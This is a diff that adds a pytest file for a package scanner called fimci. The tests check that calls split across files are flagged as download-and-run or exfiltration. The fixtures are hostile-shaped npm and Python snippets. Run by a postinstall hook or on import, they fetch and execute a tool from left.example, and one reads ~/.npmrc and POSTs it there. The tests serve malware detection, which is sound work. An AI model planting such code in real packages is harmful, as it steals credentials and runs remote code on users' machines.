@@ -1,0 +1,103 @@
+"""Chains that calls across files close, and those that they do not."""
+
+from __future__ import annotations
+
+import pytest
+
+from fimci import readers, sides
+from fimci.look import take
+from fimci.model import Capability, Record
+from fimci.reach import settled
+from fimci.snapshot import Entry
+
+FETCH = """
+const fs = require("fs");
+exports.fetched = async function (to) {
+  const answer = await fetch("https://left.example/tool");
+  fs.writeFileSync(to, await answer.text());
+};
+"""
+RUN = """
+const { execFile } = require("child_process");
+exports.run = (file) => execFile(file, ["--quiet"]);
+"""
+READ = """
+const { readFileSync } = require("fs");
+exports.known = (home) => readFileSync(home + "/.npmrc", "utf8");
+"""
+SEND = """
+exports.send = (text) => fetch("https://left.example/c", { method: "POST", body: text });
+"""
+SCRIPTS = '{"name": "a", "version": "1.0.0", "scripts": {"postinstall": "node start"}}'
+START = {
+    "a third calls both": (
+        'const { fetched } = require("./fetch");\nconst { run } = require("./run");\n'
+        'fetched("/opt/tool").then(() => run("/opt/tool"));\n'
+    ),
+    "in a function": (
+        'const { fetched } = require("./fetch");\nconst lib = require("./run");\n'
+        "async function main() {\n  await fetched(1);\n  lib.run(process.argv[2]);\n}\nmain();\n"
+    ),
+    "it runs itself": (
+        'const { fetched } = require("./fetch");\nconst cp = require("child_process");\n'
+        'fetched("/opt/tool").then(() => cp.execFile("/opt/tool"));\n'
+    ),
+}
+PYTHON = {
+    "pkg/__init__.py": "from .work import main\nmain()\n",
+    "pkg/fetch.py": (
+        "import requests\n\ndef fetched(to):\n    with open(to, 'wb') as out:\n"
+        "        out.write(requests.get('https://left.example/tool').content)\n"
+    ),
+    "pkg/work.py": (
+        "import subprocess\nfrom .fetch import fetched\n\ndef main():\n    fetched('/opt/tool')\n"
+        "    subprocess.run(['/opt/tool'])\n"
+    ),
+}
+
+
+def entry(path: str, text: str) -> Entry:
+    return Entry(path=path, read=lambda: iter([text.encode()]))
+
+
+def told(files: dict[str, str]) -> set[tuple[str, str, str, str]]:
+    entries = [entry(path, text) for path, text in files.items()]
+    records: list[Record] = take(entries, sides.recipe(code=True), readers.ALL)
+    return {
+        (r.path, r.name, r.subject, r.phase)
+        for r in settled(records, project=False)
+        if isinstance(r, Capability) and r.name in {"download-and-run", "exfiltration"}
+    }
+
+
+@pytest.mark.parametrize("start", START)
+def test_one_file_fetches_and_another_runs(start: str) -> None:
+    files = {"package.json": SCRIPTS, "start.js": START[start], "fetch.js": FETCH, "run.js": RUN}
+    found = told(files)
+    assert {(name, phase) for _, name, _, phase in found} == {("download-and-run", "install")}
+    assert all(subject.startswith("fetch.js -> ") for _, _, subject, _ in found)
+
+
+def test_one_file_reads_a_secret_and_another_sends() -> None:
+    start = 'const { known } = require("./read");\nconst { send } = require("./send");\nsend(known("."));\n'
+    files = {"package.json": SCRIPTS, "start.js": start, "read.js": READ, "send.js": SEND}
+    assert told(files) == {("send.js", "exfiltration", "read.js -> left.example", "install")}
+
+
+def test_python_fetches_in_one_module_and_runs_in_another() -> None:
+    assert told(PYTHON) == {("pkg/work.py", "download-and-run", "fetch.py -> tool", "import")}
+
+
+@pytest.mark.parametrize(
+    "start",
+    [
+        'const { fetched } = require("./fetch");\nfetched("/opt/data");\n',
+        'const { run } = require("./run");\nrequire("./fetch");\nrun("/opt/tool");\n',
+        'const { fetched } = require("./fetch");\nconst { run } = require("./run");\n'
+        "exports.main = () => fetched(1).then(run);\nexports.other = () => run(process.env.A);\n",
+    ],
+    ids=["fetched alone", "run alone", "nobody calls them"],
+)
+def test_what_is_not_called_together_is_no_chain(start: str) -> None:
+    files = {"package.json": SCRIPTS, "start.js": start, "fetch.js": FETCH, "run.js": RUN}
+    assert told(files) == set()
